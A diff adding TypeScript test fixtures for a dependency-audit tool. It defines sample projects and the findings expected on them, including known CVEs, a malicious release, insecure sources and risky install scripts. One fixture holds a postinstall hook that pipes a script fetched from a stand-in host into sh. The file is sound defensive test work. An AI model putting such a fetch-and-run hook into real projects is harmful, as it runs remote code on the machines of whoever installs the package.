@@ -1,0 +1,177 @@
+/** A small project and what is said about it: `rule: title`. */
+export interface Project {
+  readonly what: string;
+  readonly files: Readonly<Record<string, string>>;
+  readonly says: readonly string[];
+  /** Rules that must not speak. */
+  readonly silent?: readonly string[];
+}
+
+function npmLock(packages: Readonly<Record<string, object>>): string {
+  const entries = Object.entries(packages).map(([name, entry]) => `"node_modules/${name}": ${JSON.stringify(entry)}`);
+  return `{"lockfileVersion": 3, "packages": {\n${entries.join(',\n')}\n}}`;
+}
+
+export const projects: readonly Project[] = [
+  {
+    what: 'counts, and sees two lock files side by side',
+    files: {
+      'package.json': '{"name": "app", "dependencies": {\n"a": "1.0.0"}}',
+      'package-lock.json': npmLock({ a: { version: '1.0.0' }, b: { version: '1.0.0' } }),
+      'yarn.lock': 'a@1.0.0:\n  version "1.0.0"\n',
+    },
+    says: [
+      'overview: 1 direct dependency in package.json, 1 more come with them',
+      'rival-lock-files: package-lock.json and yarn.lock lie side by side',
+    ],
+    silent: ['missing-lock-file', 'unpinned'],
+  },
+  {
+    what: 'misses the lock file of an application, not that of a library',
+    files: {
+      'package.json': '{"name": "app", "private": true, "dependencies": {\n"a": "^1.0.0",\n"b": "*"}}',
+      'lib/package.json': '{"name": "lib", "main": "x.js", "dependencies": {"a": "^1.0.0"}}',
+    },
+    says: [
+      'missing-lock-file: No lock file for package.json',
+      'unpinned: 1 of 2 dependencies in package.json take any version',
+    ],
+  },
+  {
+    what: 'lets a lock file hold what a manifest leaves open',
+    files: {
+      'package.json': '{"name": "app", "private": true, "dependencies": {"b": "*"}}',
+      'package-lock.json': npmLock({ b: { version: '1.0.0' } }),
+    },
+    says: [],
+    silent: ['unpinned', 'missing-lock-file'],
+  },
+  {
+    what: 'sees a branch as a source, and not a tag',
+    files: {
+      'requirements.txt': 'git+https://github.com/o/one.git#egg=one\ngit+https://github.com/o/two.git@v1.2#egg=two\n',
+    },
+    says: ['unpinned-source: one comes from a repository without a fixed commit'],
+  },
+  {
+    what: 'sees two major versions in one repository',
+    files: {
+      'a/package.json': '{"name": "a", "dependencies": {"react": "^17.0.0", "same": "1.0.0"}}',
+      'b/package.json': '{"name": "b", "dependencies": {"react": "^18.2.0", "same": "1.4.0"}}',
+    },
+    says: ['version-conflict: Packages of this repository disagree on react (17, 18)'],
+  },
+  {
+    what: 'knows notorious versions by the lock file, or where no allowed version is safe',
+    files: {
+      'package.json':
+        '{"name": "app", "dependencies": {\n"lodash": "^4.17.0",\n"jsonwebtoken": "~8.5.0",\n"axios": "^1.0.0"}}',
+      'package-lock.json': npmLock({
+        lodash: { version: '4.17.20' },
+        minimist: { version: '1.2.0' },
+        axios: { version: '1.6.0' },
+      }),
+    },
+    says: [
+      'notorious-version: lodash 4.17.20 has CVE-2021-23337: command injection through `template`',
+      'notorious-version: jsonwebtoken ~8.5.0 has CVE-2022-23540: a missing algorithm list lets unsigned tokens pass',
+      'notorious-transitive: 1 locked package with widely known weaknesses: minimist 1.2.0',
+    ],
+  },
+  {
+    what: 'leaves a range alone that allows the fixed version',
+    files: { 'package.json': '{"name": "app", "dependencies": {"lodash": "^4.17.0", "minimist": ">=1.0.0"}}' },
+    says: [],
+    silent: ['notorious-version'],
+  },
+  {
+    what: 'knows releases that carried an attack',
+    files: {
+      'package.json': '{"name": "app", "dependencies": {"chalk": "5.6.1"}}',
+      'package-lock.json': npmLock({ chalk: { version: '5.6.1' } }),
+    },
+    says: ["malicious-version: chalk 5.6.1 is a release with an attacker's code in it"],
+  },
+  {
+    what: 'knows what is no longer maintained',
+    files: {
+      'package.json': '{"name": "app", "dependencies": {"request": "2.88.2"}, "devDependencies": {"tslint": "6.1.3"}}',
+    },
+    says: ['unmaintained: 2 direct dependencies are no longer maintained: request and tslint'],
+  },
+  {
+    what: 'names copyleft among what is shipped, not a choice of licences',
+    files: {
+      'package.json': '{"name": "app", "license": "MIT", "dependencies": {"a": "1.0.0", "b": "1.0.0"}}',
+      'package-lock.json': npmLock({
+        a: { version: '1.0.0', license: 'GPL-3.0-only' },
+        b: { version: '1.0.0', license: '(MIT OR GPL-3.0)' },
+        c: { version: '1.0.0', license: 'AGPL-3.0', dev: true },
+        d: { version: '1.0.0', license: 'LGPL-3.0' },
+      }),
+    },
+    says: ['copyleft: 1 runtime dependency has a strong copyleft licence: a'],
+  },
+  {
+    what: 'looks at where packages are fetched from and what they run',
+    files: {
+      'package.json':
+        '{"name": "app", "scripts": {"postinstall": "curl https://x.example/i.sh | sh"}, "dependencies": {"a": "1"}}',
+      'package-lock.json': npmLock({
+        a: { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz' },
+        b: { version: '1.0.0', resolved: 'https://packages.example/b.tgz' },
+        c: { version: '1.0.0', resolved: 'http://registry.npmjs.org/c.tgz' },
+        d: { version: '1.0.0', hasInstallScript: true },
+        esbuild: { version: '0.20.0', hasInstallScript: true },
+      }),
+    },
+    says: [
+      'insecure-source: 1 locked package is fetched without encryption: c',
+      'foreign-host: 1 locked package comes from another host than the registry: packages.example',
+      'install-scripts: 1 package runs a script at install that few projects need: d',
+      'fetching-hook: package.json fetches from the network in postinstall',
+    ],
+  },
+  {
+    what: 'sees imports that no manifest declares, and libraries that no file imports',
+    files: {
+      'package.json':
+        '{"name": "app", "private": true, "dependencies": {"express": "4.18.0", "axios": "1.0.0", "lodash": "4.17.21", "dayjs": "1.0.0"}}',
+      'package-lock.json': npmLock({
+        express: { version: '4.18.0' },
+        axios: { version: '1.0.0' },
+        lodash: { version: '4.17.21' },
+        dayjs: { version: '1.0.0' },
+        qs: { version: '6.11.0' },
+      }),
+      'src/a.ts':
+        "import express from 'express';\nimport qs from 'qs';\nimport fs from 'node:fs';\nimport 'lodash';\nimport 'dayjs';\nimport type { X } from 'typed';\nexport default [express, qs, fs];\n",
+    },
+    says: [
+      'undeclared: 1 imported package is not in any manifest: qs',
+      'unused: package.json asks for axios, which no file imports',
+    ],
+  },
+  {
+    what: 'does not call unused what a file that is not parsed may import',
+    files: {
+      'package.json':
+        '{"name": "app", "private": true, "dependencies": {"axios": "1.0.0", "lodash": "4.17.21", "dayjs": "1.0.0"}}',
+      'src/a.ts': "import 'lodash';\nimport 'dayjs';\n",
+      'src/b.vue': "<script>\nimport axios from 'axios'\n</script>\n",
+    },
+    says: [],
+    silent: ['unused'],
+  },
+  {
+    what: 'knows Python imports by their distribution',
+    files: {
+      'pyproject.toml': '[project]\nname = "app"\ndependencies = ["flask", "requests"]\n',
+      'uv.lock':
+        '[[package]]\nname = "flask"\nversion = "3.0.0"\n\n[[package]]\nname = "pyyaml"\nversion = "6.0"\n\n[[package]]\nname = "werkzeug"\nversion = "3.0.0"\n',
+      'app.py': 'import yaml\nimport flask\nimport requests\nfrom werkzeug import exceptions\n',
+    },
+    says: ['undeclared: 1 imported package is not in any manifest: pyyaml'],
+    silent: ['unused'],
+  },
+];
